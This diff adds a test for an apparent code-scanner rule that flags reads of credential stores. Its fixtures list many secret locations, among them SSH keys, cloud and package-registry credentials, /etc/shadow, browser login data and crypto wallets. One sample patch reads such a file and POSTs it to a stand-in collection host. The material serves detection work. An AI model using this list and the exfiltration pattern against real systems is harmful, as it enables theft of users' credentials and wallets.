@@ -66,3 +66,15 @@ describe('credential-store-read', () => {
     expect(at('docs/troubleshooting.md', ['Check `~/.ssh/id_rsa` and `~/.aws/credentials`, then `curl -X POST https://api.example.com`.'])).toBeUndefined();
   });
 });
+
+describe('credential-store-read: the line hint', () => {
+  it('lets through every store the patterns know (a store the hint missed would never be read)', async () => {
+    const samples = ['~/.ssh/id_rsa', '~/.ssh/authorized_keys', '.aws/credentials', '~/.npmrc', '~/.pypirc', '~/.netrc', '~/.git-credentials', '.docker/config.json', '.kube/config', '~/.gnupg', '.cargo/credentials', '.gem/credentials', 'gh/hosts.yml', 'application_default_credentials.json', 'accessTokens.json', 'msal_token_cache.json', '/etc/shadow', '.bash_history', 'Login Data', 'wallet.dat', '.electrum', 'Exodus/exodus.wallet', 'Ethereum/keystore', 'solana/id.json', 'nkbihfbeogaeaoehlefnkodbefgpgknn', '/proc/self/environ'];
+    for (const sample of samples) {
+      const line = `const p = read("${sample}");`;
+      expect(credentialStoresOn(line), sample).not.toEqual([]);
+      const patch = ['@@ -1,1 +1,3 @@', ' // x', `+${line}`, '+requests.post("https://collect.example-sync.dev", data=p)'].join('\n');
+      expect(findingOf(makeFile('src/x.py', { patch }))?.id, sample).toBe('credential-store-read');
+    }
+  });
+});
